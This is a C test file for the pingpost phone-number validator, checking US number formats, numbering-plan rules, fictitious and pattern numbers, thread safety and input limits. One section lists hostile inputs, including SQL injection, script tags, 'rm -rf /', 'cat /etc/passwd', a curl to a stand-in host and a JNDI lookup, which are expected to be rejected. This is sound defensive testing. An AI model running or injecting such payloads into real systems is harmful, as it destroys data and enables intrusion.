/*  test_pp_phone - US phone numbers: formats, numbering plan, our rules, hostile text, speed  */
/*  Copyright (c) the pingpost authors. Licensed under the Apache License 2.0.  */

#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <setjmp.h>
#include <cmocka.h>

#include <pthread.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <time.h>

#include "pp_phone.h"

//  Shorthands for the table.
#define OK          PP_PHONE_OK
#define MALFORMED   PP_PHONE_MALFORMED
#define INVALID     PP_PHONE_INVALID
#define FOREIGN     PP_PHONE_FOREIGN
#define PATTERN     PP_PHONE_PATTERN
#define FICTITIOUS  PP_PHONE_FICTITIOUS
#define N11         PP_PHONE_N11
#define ANY_LINE    (-1)
#define FOM         PP_LINE_FIXED_OR_MOBILE

//  One case: the text, the verdict, and for PP_PHONE_OK the E.164 form and
//  the line type (ANY_LINE: not checked).
typedef struct {
    const char *text;
    pp_phone_verdict_t verdict;
    const char *e164;
    int line;
} s_case_t;

static const s_case_t s_cases [] = {
    //  One number, every format publishers send.
    { "(415) 555-2671", OK, "+14155552671", FOM },
    { "415-555-2671", OK, "+14155552671", FOM },
    { "415.555.2671", OK, "+14155552671", FOM },
    { "415 555 2671", OK, "+14155552671", FOM },
    { "4155552671", OK, "+14155552671", FOM },
    { "(415)555-2671", OK, "+14155552671", FOM },
    { "(415) 555 2671", OK, "+14155552671", FOM },
    { "(415)-555-2671", OK, "+14155552671", FOM },
    { "1-415-555-2671", OK, "+14155552671", FOM },
    { "1 415 555 2671", OK, "+14155552671", FOM },
    { "1.415.555.2671", OK, "+14155552671", FOM },
    { "14155552671", OK, "+14155552671", FOM },
    { "1 (415) 555-2671", OK, "+14155552671", FOM },
    { "1(415)555-2671", OK, "+14155552671", FOM },
    { "+1 415 555 2671", OK, "+14155552671", FOM },
    { "+1-415-555-2671", OK, "+14155552671", FOM },
    { "+1.415.555.2671", OK, "+14155552671", FOM },
    { "+1 (415) 555-2671", OK, "+14155552671", FOM },
    { "+1(415)5552671", OK, "+14155552671", FOM },
    { "+14155552671", OK, "+14155552671", FOM },
    { "  (415) 555-2671  ", OK, "+14155552671", FOM },
    { "415 - 555 - 2671", OK, "+14155552671", FOM },
    { "415--555--2671", OK, "+14155552671", FOM },
    { "415555 2671", OK, "+14155552671", FOM },
    { "011 1 415 555 2671", OK, "+14155552671", FOM },
    //  Public institutional numbers, many area codes.
    { "202-456-1111", OK, "+12024561111", FOM },
    { "(202) 224-3121", OK, "+12022243121", FOM },
    { "202.707.5000", OK, "+12027075000", FOM },
    { "650-253-0000", OK, "+16502530000", FOM },
    { "408-996-1010", OK, "+14089961010", FOM },
    { "425-882-8080", OK, "+14258828080", FOM },
    { "212-736-3100", OK, "+12127363100", FOM },
    { "+1 206 386 4636", OK, "+12063864636", FOM },
    { "(617) 635-4500", OK, "+16176354500", FOM },
    { "312.744.5000", OK, "+13127445000", FOM },
    //  Synthetic subscribers across the country.
    { "(201) 384-2719", OK, "+12013842719", FOM },
    { "203-648-2291", OK, "+12036482291", FOM },
    { "205 297 3318", OK, "+12052973318", FOM },
    { "207.623.9940", OK, "+12076239940", FOM },
    { "(208) 334-7260", OK, "+12083347260", FOM },
    { "210-207-7253", OK, "+12102077253", FOM },
    { "213 473 3231", OK, "+12134733231", FOM },
    { "214-939-2700", OK, "+12149392700", FOM },
    { "215-686-1776", OK, "+12156861776", FOM },
    { "216.664.2000", OK, "+12166642000", FOM },
    { "(225) 342-7015", OK, "+12253427015", FOM },
    { "239-533-2111", OK, "+12395332111", FOM },
    { "248 858 0001", OK, "+12488580001", FOM },
    { "(251) 208-7000", OK, "+12512087000", FOM },
    { "262-548-7900", OK, "+12625487900", FOM },
    { "281 376 4463", OK, "+12813764463", FOM },
    { "(301) 952-3700", OK, "+13019523700", FOM },
    { "302-739-4101", OK, "+13027394101", FOM },
    { "303.866.2471", OK, "+13038662471", FOM },
    { "305-375-5071", OK, "+13053755071", FOM },
    { "(307) 777-7434", OK, "+13077777434", FOM },
    { "310-458-8411", OK, "+13104588411", FOM },
    { "313 224 3400", OK, "+13132243400", FOM },
    { "314-622-3201", OK, "+13146223201", FOM },
    { "(316) 268-4351", OK, "+13162684351", FOM },
    { "317-327-3601", OK, "+13173273601", FOM },
    { "(319) 356-5000", OK, "+13193565000", FOM },
    { "402-441-7511", OK, "+14024417511", FOM },
    { "404.330.6000", OK, "+14043306000", FOM },
    { "(405) 297-2345", OK, "+14052972345", FOM },
    { "406-444-2511", OK, "+14064442511", FOM },
    { "407 246 2221", OK, "+14072462221", FOM },
    { "(410) 396-3835", OK, "+14103963835", FOM },
    { "412-255-2626", OK, "+14122552626", FOM },
    { "414.286.2200", OK, "+14142862200", FOM },
    { "469-762-9380", OK, "+14697629380", FOM },
    { "(480) 644-2388", OK, "+14806442388", FOM },
    { "501-371-4510", OK, "+15013714510", FOM },
    { "502 574 2003", OK, "+15025742003", FOM },
    { "(503) 823-4120", OK, "+15038234120", FOM },
    { "504-658-4000", OK, "+15046584000", FOM },
    { "505-768-3000", OK, "+15057683000", FOM },
    { "(512) 974-2000", OK, "+15129742000", FOM },
    { "513-352-3250", OK, "+15133523250", FOM },
    { "515.283.4500", OK, "+15152834500", FOM },
    { "(520) 791-4204", OK, "+15207914204", FOM },
    { "602-262-6011", OK, "+16022626011", FOM },
    { "(603) 271-2121", OK, "+16032712121", FOM },
    { "608 266 4611", OK, "+16082664611", FOM },
    { "612-673-3000", OK, "+16126733000", FOM },
    { "614-645-7671", OK, "+16146457671", FOM },
    { "(615) 862-5000", OK, "+16158625000", FOM },
    { "702.229.6011", OK, "+17022296011", FOM },
    { "704-336-7600", OK, "+17043367600", FOM },
    { "(713) 837-0311", OK, "+17138370311", FOM },
    { "718-816-2000", OK, "+17188162000", FOM },
    { "720 913 1311", OK, "+17209131311", FOM },
    { "(801) 535-7704", OK, "+18015357704", FOM },
    { "802-828-2329", OK, "+18028282329", FOM },
    { "808-768-4141", OK, "+18087684141", FOM },
    { "813.274.8211", OK, "+18132748211", FOM },
    { "(816) 513-1313", OK, "+18165131313", FOM },
    { "907-343-7100", OK, "+19073437100", FOM },
    { "(916) 808-5300", OK, "+19168085300", FOM },
    { "919-996-3050", OK, "+19199963050", FOM },
    { "(971) 673-0300", OK, "+19716730300", FOM },
    { "+1 989 894 4150", OK, "+19898944150", FOM },
    //  555 lines outside 0100-0199 are ordinary numbers; the boundaries.
    { "415-555-0099", OK, "+14155550099", FOM },
    { "415-555-0200", OK, "+14155550200", FOM },
    { "415-555-1211", OK, "+14155551211", FOM },
    { "415-555-1213", OK, "+14155551213", FOM },
    //  Territories we sell: Puerto Rico, USVI, Guam, American Samoa, N. Marianas.
    { "(787) 281-4455", OK, "+17872814455", FOM },
    { "939-555-2671", OK, "+19395552671", FOM },
    { "+1 340 555 2671", OK, "+13405552671", FOM },
    { "671-555-2671", OK, "+16715552671", FOM },
    { "684-633-4116", OK, "+16846334116", PP_LINE_FIXED },
    { "684-733-4116", OK, "+16847334116", PP_LINE_MOBILE },
    { "670-235-1234", OK, "+16702351234", FOM },
    //  Toll-free, premium and personal numbers are valid; buyers filter on the type.
    { "1-800-356-9377", OK, "+18003569377", PP_LINE_TOLL_FREE },
    { "(888) 382-1222", OK, "+18883821222", PP_LINE_TOLL_FREE },
    { "877.382.4357", OK, "+18773824357", PP_LINE_TOLL_FREE },
    { "866-704-7205", OK, "+18667047205", PP_LINE_TOLL_FREE },
    { "855-889-4325", OK, "+18558894325", PP_LINE_TOLL_FREE },
    { "844-872-4681", OK, "+18448724681", PP_LINE_TOLL_FREE },
    { "833-946-2371", OK, "+18339462371", PP_LINE_TOLL_FREE },
    { "900-225-5355", OK, "+19002255355", PP_LINE_PREMIUM },
    { "500-234-9876", OK, "+15002349876", PP_LINE_OTHER },

    //  Area codes not in the plan.
    { "000-867-5309", INVALID, NULL, 0 },
    { "123-867-5309", INVALID, NULL, 0 },
    { "(199) 867-5309", INVALID, NULL, 0 },
    { "555-867-5309", INVALID, NULL, 0 },
    { "911-867-5309", INVALID, NULL, 0 },
    { "411-867-5309", INVALID, NULL, 0 },
    { "372-867-5309", INVALID, NULL, 0 },
    { "965-867-5309", INVALID, NULL, 0 },
    { "999-867-5309", INVALID, NULL, 0 },
    { "290-867-5309", INVALID, NULL, 0 },
    { "1-023-867-5309", INVALID, NULL, 0 },
    //  Exchanges starting with 0 or 1.
    { "415-055-2671", INVALID, NULL, 0 },
    { "415-155-2671", INVALID, NULL, 0 },
    { "(212) 011-2671", INVALID, NULL, 0 },
    { "212-111-4567", INVALID, NULL, 0 },
    //  Wrong lengths.
    { "415-555-267", INVALID, NULL, 0 },
    { "415-555-26711", INVALID, NULL, 0 },
    { "555-2671", INVALID, NULL, 0 },
    { "2671", INVALID, NULL, 0 },
    { "0", INVALID, NULL, 0 },
    { "1", INVALID, NULL, 0 },
    { "+1", INVALID, NULL, 0 },
    { "+1 415 555 267", INVALID, NULL, 0 },
    { "+1 415 555 26711", INVALID, NULL, 0 },
    { "141555526711", INVALID, NULL, 0 },
    { "1-415-555-2671-1", INVALID, NULL, 0 },
    { "2-415-555-2671", INVALID, NULL, 0 },
    { "11 415 555 2671", INVALID, NULL, 0 },
    { "1415555267", INVALID, NULL, 0 },
    //  a spreadsheet's float: 11 digits
    { "4155552671.0", INVALID, NULL, 0 },
    { "12345678901234567890123", INVALID, NULL, 0 },
    { "4155552671415555267141555526714155552671", INVALID, NULL, 0 },
    //  Not dialable from here.
    { "+0 415 555 2671", INVALID, NULL, 0 },
    { "+999 1234567", INVALID, NULL, 0 },
    { "+44 12", INVALID, NULL, 0 },
    { "011", INVALID, NULL, 0 },

    //  Valid numbers of other countries and of NANP regions we do not sell.
    { "+44 20 7946 0958", FOREIGN, NULL, 0 },
    { "011 44 20 7946 0958", FOREIGN, NULL, 0 },
    { "+91 98765 43210", FOREIGN, NULL, 0 },
    { "+33 1 42 68 53 00", FOREIGN, NULL, 0 },
    { "+61 2 9250 7111", FOREIGN, NULL, 0 },
    { "+52 55 5130 0900", FOREIGN, NULL, 0 },
    { "+49 30 18 272 0", FOREIGN, NULL, 0 },
    { "+86 10 6552 9988", FOREIGN, NULL, 0 },
    { "416-555-2671", FOREIGN, NULL, 0 },
    { "(604) 873-7000", FOREIGN, NULL, 0 },
    { "+1 514 872 1111", FOREIGN, NULL, 0 },
    { "1-876-555-2671", FOREIGN, NULL, 0 },
    { "242-302-2000", FOREIGN, NULL, 0 },
    { "(441) 295-5151", FOREIGN, NULL, 0 },
    //  Italy keeps its leading zero
    { "+39 06 698 83114", FOREIGN, NULL, 0 },
    { "+7 495 697 03 49", FOREIGN, NULL, 0 },
    //  international freephone
    { "+800 1234 5678", FOREIGN, NULL, 0 },
    { "011 81 3 3224 9999", FOREIGN, NULL, 0 },
    //  too long for the UK
    { "+44 20 7946 0958 1234 5678", INVALID, NULL, 0 },
    //  Morocco (212), too short
    { "+2 123 4567", INVALID, NULL, 0 },
    { "+1 011 44 20 7946", INVALID, NULL, 0 },

    //  Fictitious: 555-0100 .. 555-0199 and directory assistance.
    { "(415) 555-0100", FICTITIOUS, NULL, 0 },
    { "415-555-0123", FICTITIOUS, NULL, 0 },
    { "212-555-0199", FICTITIOUS, NULL, 0 },
    { "+1 202 555 0147", FICTITIOUS, NULL, 0 },
    { "1-800-555-0199", FICTITIOUS, NULL, 0 },
    { "555-555-0100", FICTITIOUS, NULL, 0 },
    { "(310) 555-1212", FICTITIOUS, NULL, 0 },
    { "1-213-555-1212", FICTITIOUS, NULL, 0 },

    //  Patterns: repeated digits and runs.
    { "0000000000", PATTERN, NULL, 0 },
    { "1111111111", PATTERN, NULL, 0 },
    { "222-222-2222", PATTERN, NULL, 0 },
    { "(999) 999-9999", PATTERN, NULL, 0 },
    { "5555555555", PATTERN, NULL, 0 },
    { "(212) 222-2222", PATTERN, NULL, 0 },
    { "415-555-5555", PATTERN, NULL, 0 },
    { "+1 310 777 7777", PATTERN, NULL, 0 },
    { "123-456-7890", PATTERN, NULL, 0 },
    { "(123) 456-7890", PATTERN, NULL, 0 },
    { "+1 123 456 7890", PATTERN, NULL, 0 },
    { "1234567890", PATTERN, NULL, 0 },
    { "0123456789", PATTERN, NULL, 0 },
    { "987-654-3210", PATTERN, NULL, 0 },
    { "9876543210", PATTERN, NULL, 0 },
    { "234-567-8901", PATTERN, NULL, 0 },
    { "1-234-567-8901", PATTERN, NULL, 0 },
    { "415-234-5678", PATTERN, NULL, 0 },
    { "415-345-6789", PATTERN, NULL, 0 },
    { "415-890-1234", PATTERN, NULL, 0 },
    { "415-876-5432", PATTERN, NULL, 0 },
    { "415-765-4321", PATTERN, NULL, 0 },
    { "415-210-9876", PATTERN, NULL, 0 },

    //  N11 exchanges.
    { "415-211-2671", N11, NULL, 0 },
    { "415-311-2671", N11, NULL, 0 },
    { "(212) 411-5582", N11, NULL, 0 },
    { "415-511-2671", N11, NULL, 0 },
    { "415-611-2671", N11, NULL, 0 },
    { "+1 415 711 2671", N11, NULL, 0 },
    { "415-811-2671", N11, NULL, 0 },
    { "1-415-911-2671", N11, NULL, 0 },

    //  Not phone text: empty, letters, extensions, odd punctuation.
    { "", MALFORMED, NULL, 0 },
    { "   ", MALFORMED, NULL, 0 },
    { "abc", MALFORMED, NULL, 0 },
    { "n/a", MALFORMED, NULL, 0 },
    { "none", MALFORMED, NULL, 0 },
    { "1-800-FLOWERS", MALFORMED, NULL, 0 },
    { "1-800-flowers", MALFORMED, NULL, 0 },
    { "415-555-2671 x123", MALFORMED, NULL, 0 },
    { "415-555-2671 ext. 5", MALFORMED, NULL, 0 },
    { "415-555-2671#", MALFORMED, NULL, 0 },
    { "415 555 2671 #123", MALFORMED, NULL, 0 },
    { "tel:+1-415-555-2671", MALFORMED, NULL, 0 },
    { "+1+4155552671", MALFORMED, NULL, 0 },
    { "++14155552671", MALFORMED, NULL, 0 },
    { "+ 1 415 555 2671", MALFORMED, NULL, 0 },
    { "4155552671+", MALFORMED, NULL, 0 },
    { "415+555+2671", MALFORMED, NULL, 0 },
    { "-4155552671", MALFORMED, NULL, 0 },
    { "4155552671-", MALFORMED, NULL, 0 },
    { ".4155552671", MALFORMED, NULL, 0 },
    { "(415 555-2671", MALFORMED, NULL, 0 },
    { "415) 555-2671", MALFORMED, NULL, 0 },
    { "((415)) 555-2671", MALFORMED, NULL, 0 },
    { "(415) (555) 2671", MALFORMED, NULL, 0 },
    { "(41) 5555-2671", MALFORMED, NULL, 0 },
    { "(4155) 55-2671", MALFORMED, NULL, 0 },
    { "415 (555) 2671", MALFORMED, NULL, 0 },
    { "(1) 415 555 2671", MALFORMED, NULL, 0 },
    { "()4155552671", MALFORMED, NULL, 0 },
    { "415/555/2671", MALFORMED, NULL, 0 },
    { "415_555_2671", MALFORMED, NULL, 0 },
    { "415,555,2671", MALFORMED, NULL, 0 },
    { "415\t555\t2671", MALFORMED, NULL, 0 },
    { "415-555-2671\n", MALFORMED, NULL, 0 },
    { "\r\n4155552671", MALFORMED, NULL, 0 },
    { "0x4155552671", MALFORMED, NULL, 0 },
    { "4.155552671e9", MALFORMED, NULL, 0 },
    { "[4155552671]", MALFORMED, NULL, 0 },
    { "\"4155552671\"", MALFORMED, NULL, 0 },
    { "null", MALFORMED, NULL, 0 },
    { "undefined", MALFORMED, NULL, 0 },
    { "NaN", MALFORMED, NULL, 0 },
    //  Injection strings.
    { "' OR 1=1 --", MALFORMED, NULL, 0 },
    { "4155552671' OR '1'='1", MALFORMED, NULL, 0 },
    { "415-555-2671; DROP TABLE leads;--", MALFORMED, NULL, 0 },
    { "1; SELECT pg_sleep(10)", MALFORMED, NULL, 0 },
    { "<script>alert(1)</script>", MALFORMED, NULL, 0 },
    { "4155552671<img src=x onerror=alert(1)>", MALFORMED, NULL, 0 },
    { "$(rm -rf /)", MALFORMED, NULL, 0 },
    { "`reboot`", MALFORMED, NULL, 0 },
    { "4155552671 && curl evil.example", MALFORMED, NULL, 0 },
    { "| cat /etc/passwd", MALFORMED, NULL, 0 },
    { "%00", MALFORMED, NULL, 0 },
    { "4155552671%00", MALFORMED, NULL, 0 },
    { "%2B14155552671", MALFORMED, NULL, 0 },
    { "&#52;155552671", MALFORMED, NULL, 0 },
    { "{{7*7}}", MALFORMED, NULL, 0 },
    { "${jndi:ldap://x.example/a}", MALFORMED, NULL, 0 },
    { "../../etc/passwd", MALFORMED, NULL, 0 },
    { "%s%s%s%n", MALFORMED, NULL, 0 },
    { "\\x34155552671", MALFORMED, NULL, 0 },
    { "{\"phone\":\"4155552671\"}", MALFORMED, NULL, 0 },
    //  Unicode: other digits, other spaces and dashes, invisible characters.
    //  full-width
    { "\xef\xbc\x94\xef\xbc\x91\xef\xbc\x95\xef\xbc\x95\xef\xbc\x95\xef\xbc\x95"
      "\xef\xbc\x92\xef\xbc\x96\xef\xbc\x97\xef\xbc\x91", MALFORMED, NULL, 0 },
    //  full-width plus
    { "\xef\xbc\x8b" "1 415 555 2671", MALFORMED, NULL, 0 },
    //  Arabic-Indic
    { "\xd9\xa4\xd9\xa1\xd9\xa5\xd9\xa5\xd9\xa5\xd9\xa5\xd9\xa2\xd9\xa6\xd9\xa7\xd9\xa1",
      MALFORMED, NULL, 0 },
    //  Persian
    { "\xdb\xb4\xdb\xb1\xdb\xb5\xdb\xb5\xdb\xb5\xdb\xb5\xdb\xb2\xdb\xb6\xdb\xb7\xdb\xb1",
      MALFORMED, NULL, 0 },
    //  Devanagari area code
    { "\xe0\xa5\xaa\xe0\xa5\xa7\xe0\xa5\xab 555 2671", MALFORMED, NULL, 0 },
    //  mathematical bold
    { "\xf0\x9d\x9f\x92\xf0\x9d\x9f\x8f\xf0\x9d\x9f\x93 555 2671", MALFORMED, NULL, 0 },
    //  superscripts
    { "\xe2\x81\xb4\xc2\xb9\xe2\x81\xb5 555 2671", MALFORMED, NULL, 0 },
    //  no-break spaces
    { "415\xc2\xa0" "555\xc2\xa0" "2671", MALFORMED, NULL, 0 },
    //  en dashes
    { "415\xe2\x80\x93" "555\xe2\x80\x93" "2671", MALFORMED, NULL, 0 },
    //  non-breaking hyphens
    { "415\xe2\x80\x91" "555\xe2\x80\x91" "2671", MALFORMED, NULL, 0 },
    //  zero-width space
    { "415\xe2\x80\x8b" "5552671", MALFORMED, NULL, 0 },
    //  right-to-left override
    { "\xe2\x80\xae" "1762555514", MALFORMED, NULL, 0 },
    //  byte-order mark
    { "\xef\xbb\xbf" "4155552671", MALFORMED, NULL, 0 },
    //  telephone emoji
    { "\xf0\x9f\x93\x9e 415-555-2671", MALFORMED, NULL, 0 },
    //  combining accent
    { "4\xcc\x81" "155552671", MALFORMED, NULL, 0 },
    //  Invalid UTF-8.
    { "415\xff" "555\xfe" "2671", MALFORMED, NULL, 0 },
    //  overlong '4'
    { "\xc0\xb4" "155552671", MALFORMED, NULL, 0 },
    //  surrogate
    { "\xed\xa0\x80" "4155552671", MALFORMED, NULL, 0 },
    { "4155552671\x80", MALFORMED, NULL, 0 },
    //  truncated sequence
    { "\xe2\x82", MALFORMED, NULL, 0 },
    //  An embedded NUL ends the C string: only "415" is seen.
    { "415\0 555 2671", INVALID, NULL, 0 },
    //  Control characters.
    { "415\x1b[2J5552671", MALFORMED, NULL, 0 },
    { "\x7f" "4155552671", MALFORMED, NULL, 0 },
};

#define S_CASES (sizeof (s_cases) / sizeof (s_cases [0]))

//  AddressSanitizer builds (gcc says so one way, clang the other) are slower.
#if defined (__SANITIZE_ADDRESS__)
#   define S_SANITIZED 1
#elif defined (__has_feature)
#   if __has_feature (address_sanitizer)
#       define S_SANITIZED 1
#   endif
#endif
#ifndef S_SANITIZED
#   define S_SANITIZED 0
#endif

static double
s_now_us (void)
{
    struct timespec now;
    clock_gettime (CLOCK_MONOTONIC, &now);
    return now.tv_sec * 1e6 + now.tv_nsec / 1e3;
}

//  Check every case; print each mismatch. Returns the number of mismatches.
static int
s_run_cases (bool verbose)
{
    int failures = 0;
    for (size_t i = 0; i < S_CASES; i++) {
        const s_case_t *c = &s_cases [i];
        char e164 [PP_PHONE_E164_SIZE];
        memset (e164, 'X', sizeof (e164));
        pp_line_type_t line = (pp_line_type_t) 99;
        pp_phone_verdict_t verdict = pp_phone_check (c->text, e164, sizeof (e164), &line);
        bool ok = verdict == c->verdict;
        if (c->verdict == PP_PHONE_OK) {
            ok = ok && strcmp (e164, c->e164) == 0;
            ok = ok && (c->line == ANY_LINE || (int) line == c->line);
        }
        else
            ok = ok && e164 [0] == '\0' && line == PP_LINE_UNKNOWN;
        if (!ok) {
            failures++;
            if (verbose)
                printf ("case %zu \"%s\": got %s \"%s\" %s, want %s \"%s\" %s\n", i, c->text,
                        pp_phone_verdict_name (verdict), verdict == PP_PHONE_OK ? e164 : "",
                        pp_line_type_name (line), pp_phone_verdict_name (c->verdict),
                        c->e164 ? c->e164 : "",
                        c->verdict == PP_PHONE_OK && c->line != ANY_LINE
                            ? pp_line_type_name (c->line) : "unknown");
        }
    }
    return failures;
}

//  The first test, so that the tables are built while four threads race
//  for them: every thread must see every verdict right.
static void *
s_thread (void *arg)
{
    int failures = 0;
    for (int round = 0; round < 50; round++)
        failures += s_run_cases (false);
    return (void *) (intptr_t) failures;
}

static void
test_pp_phone_threads (void **state)
{
    pthread_t threads [4];
    for (int i = 0; i < 4; i++)
        assert_int_equal (pthread_create (&threads [i], NULL, s_thread, NULL), 0);
    intptr_t failures = 0;
    for (int i = 0; i < 4; i++) {
        void *result;
        assert_int_equal (pthread_join (threads [i], &result), 0);
        failures += (intptr_t) result;
    }
    assert_int_equal (failures, 0);
}

static void
test_pp_phone_cases (void **state)
{
    printf ("%zu phone cases\n", S_CASES);
    assert_true (S_CASES >= 200);
    assert_int_equal (s_run_cases (true), 0);
}

static void
test_pp_phone_init (void **state)
{
    //  This libphonenumber exports its metadata: the fast tables must build
    //  (the threads test built them; this shows what is left to pay).
    double start = s_now_us ();
    assert_int_equal (pp_phone_init (), 0);
    assert_int_equal (pp_phone_init (), 0);
    printf ("pp_phone_init again: %.1f us\n", s_now_us () - start);
}

//  Every number NANPA reserves for fiction, and the lines just outside.
static void
test_pp_phone_fictitious_range (void **state)
{
    char text [32];
    for (int line = 90; line <= 210; line++) {
        snprintf (text, sizeof (text), "(212) 555-%04d", line);
        pp_phone_verdict_t verdict = pp_phone_check (text, NULL, 0, NULL);
        if (line >= 100 && line <= 199)
            assert_int_equal (verdict, PP_PHONE_FICTITIOUS);
        else
            assert_int_equal (verdict, PP_PHONE_OK);
    }
}

//  Every N11 exchange, and the N10 and N12 beside each.
static void
test_pp_phone_n11 (void **state)
{
    char text [32];
    for (int n = 2; n <= 9; n++) {
        snprintf (text, sizeof (text), "617-%d11-4829", n);
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_N11);
        snprintf (text, sizeof (text), "617-%d10-4829", n);
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_OK);
        snprintf (text, sizeof (text), "617-%d12-4829", n);
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_OK);
    }
}

//  Every ten same digits, every ten-digit run, and every seven-digit
//  subscriber run behind a real area code; one digit off is fine.
static void
test_pp_phone_patterns (void **state)
{
    char text [16];
    for (int d = 0; d < 10; d++) {
        for (int i = 0; i < 10; i++)
            text [i] = (char) ('0' + d);
        text [10] = '\0';
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_PATTERN);
        for (int i = 0; i < 10; i++)
            text [i] = (char) ('0' + (d + i) % 10);
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_PATTERN);
        for (int i = 0; i < 10; i++)
            text [i] = (char) ('0' + (d + 10 - i) % 10);
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_PATTERN);
        //  617 and a seven-digit run up, then down, then spoiled at the end.
        memcpy (text, "617", 3);
        for (int i = 0; i < 7; i++)
            text [3 + i] = (char) ('0' + (d + i) % 10);
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_PATTERN);
        for (int i = 0; i < 7; i++)
            text [3 + i] = (char) ('0' + (d + 10 - i) % 10);
        assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_PATTERN);
    }
    //  One digit off a pattern passes (exchanges 2-9 so the plan accepts them).
    assert_int_equal (pp_phone_check ("617-234-5679", NULL, 0, NULL), PP_PHONE_OK);
    assert_int_equal (pp_phone_check ("617-876-5433", NULL, 0, NULL), PP_PHONE_OK);
    assert_int_equal (pp_phone_check ("617-777-7778", NULL, 0, NULL), PP_PHONE_OK);
    assert_int_equal (pp_phone_check ("617-877-7777", NULL, 0, NULL), PP_PHONE_OK);
}

static void
test_pp_phone_outputs (void **state)
{
    //  NULL outputs are allowed.
    assert_int_equal (pp_phone_check ("415-555-2671", NULL, 0, NULL), PP_PHONE_OK);
    pp_line_type_t line = PP_LINE_UNKNOWN;
    assert_int_equal (pp_phone_check ("1-800-356-9377", NULL, 0, &line), PP_PHONE_OK);
    assert_int_equal (line, PP_LINE_TOLL_FREE);
    char e164 [PP_PHONE_E164_SIZE];
    assert_int_equal (pp_phone_check ("(900) 225-5355", e164, sizeof (e164), NULL), PP_PHONE_OK);
    assert_string_equal (e164, "+19002255355");
    //  A failure clears both.
    line = PP_LINE_MOBILE;
    assert_int_equal (pp_phone_check ("415-555-0100", e164, sizeof (e164), &line),
                      PP_PHONE_FICTITIOUS);
    assert_string_equal (e164, "");
    assert_int_equal (line, PP_LINE_UNKNOWN);
    assert_int_equal (pp_phone_check (NULL, e164, sizeof (e164), &line), PP_PHONE_MALFORMED);
    assert_string_equal (e164, "");
}

//  PP_PHONE_MAX_TEXT bytes are read; one more is malformed.
static void
test_pp_phone_length (void **state)
{
    char text [2048];
    //  64 bytes: spaces around a valid number.
    snprintf (text, sizeof (text), "%26s4155552671%28s", "", "");
    assert_int_equal (strlen (text), PP_PHONE_MAX_TEXT);
    char e164 [PP_PHONE_E164_SIZE];
    assert_int_equal (pp_phone_check (text, e164, sizeof (e164), NULL), PP_PHONE_OK);
    assert_string_equal (e164, "+14155552671");
    snprintf (text, sizeof (text), "%27s4155552671%28s", "", "");
    assert_int_equal (pp_phone_check (text, e164, sizeof (e164), NULL), PP_PHONE_MALFORMED);
    //  64 digits: phone text, but no number.
    memset (text, '7', PP_PHONE_MAX_TEXT);
    text [PP_PHONE_MAX_TEXT] = '\0';
    assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_INVALID);
    text [PP_PHONE_MAX_TEXT] = '7';
    text [PP_PHONE_MAX_TEXT + 1] = '\0';
    assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_MALFORMED);
    memset (text, '4', sizeof (text) - 1);
    text [sizeof (text) - 1] = '\0';
    assert_int_equal (pp_phone_check (text, NULL, 0, NULL), PP_PHONE_MALFORMED);
}

static void
test_pp_phone_names (void **state)
{
    assert_string_equal (pp_phone_verdict_name (PP_PHONE_OK), "ok");
    assert_string_equal (pp_phone_verdict_name (PP_PHONE_MALFORMED), "malformed");
    assert_string_equal (pp_phone_verdict_name (PP_PHONE_INVALID), "invalid");
    assert_string_equal (pp_phone_verdict_name (PP_PHONE_FOREIGN), "foreign");
    assert_string_equal (pp_phone_verdict_name (PP_PHONE_PATTERN), "pattern");
    assert_string_equal (pp_phone_verdict_name (PP_PHONE_FICTITIOUS), "fictitious");
    assert_string_equal (pp_phone_verdict_name (PP_PHONE_N11), "n11");
    assert_string_equal (pp_phone_verdict_name (42), "unknown");
    assert_string_equal (pp_line_type_name (PP_LINE_UNKNOWN), "unknown");
    assert_string_equal (pp_line_type_name (PP_LINE_MOBILE), "mobile");
    assert_string_equal (pp_line_type_name (PP_LINE_FIXED), "fixed");
    assert_string_equal (pp_line_type_name (PP_LINE_FIXED_OR_MOBILE), "fixed_or_mobile");
    assert_string_equal (pp_line_type_name (PP_LINE_TOLL_FREE), "toll_free");
    assert_string_equal (pp_line_type_name (PP_LINE_VOIP), "voip");
    assert_string_equal (pp_line_type_name (PP_LINE_PREMIUM), "premium");
    assert_string_equal (pp_line_type_name (PP_LINE_OTHER), "other");
    assert_string_equal (pp_phone_verdict_name (-1), "unknown");
    assert_string_equal (pp_line_type_name (-1), "unknown");
    assert_string_equal (pp_line_type_name (8), "unknown");
}

static void
test_pp_phone_plan_args (void **state)
{
    char region [PP_PHONE_REGION_SIZE];
    pp_line_type_t line = PP_LINE_MOBILE;
    assert_int_equal (pp_phone_plan ("4155552671", region, &line), 0);
    assert_string_equal (region, "US");
    assert_int_equal (line, PP_LINE_FIXED_OR_MOBILE);
    assert_int_equal (pp_phone_plan ("7875552671", region, NULL), 0);
    assert_string_equal (region, "PR");
    assert_int_equal (pp_phone_plan ("4165552671", region, NULL), 0);
    assert_string_equal (region, "CA");
    assert_int_equal (pp_phone_plan ("4155552671", NULL, NULL), 0);
    const char *bad [] = { NULL, "", "415555267", "41555526711", "415555267a", "+415555267",
                           " 415555267", "415555\xd9\xa7" };
    for (size_t i = 0; i < sizeof (bad) / sizeof (bad [0]); i++) {
        line = PP_LINE_MOBILE;
        assert_int_equal (pp_phone_plan (bad [i], region, &line), -1);
        assert_string_equal (region, "ZZ");
        assert_int_equal (line, PP_LINE_UNKNOWN);
        line = PP_LINE_MOBILE;
        assert_int_equal (pp_phone_plan_reference (bad [i], region, &line), -1);
        assert_string_equal (region, "ZZ");
        assert_int_equal (line, PP_LINE_UNKNOWN);
    }
    //  Not in the plan anywhere.
    assert_int_equal (pp_phone_plan ("1234567890", region, &line), -1);
    assert_string_equal (region, "ZZ");
    assert_int_equal (line, PP_LINE_UNKNOWN);
}

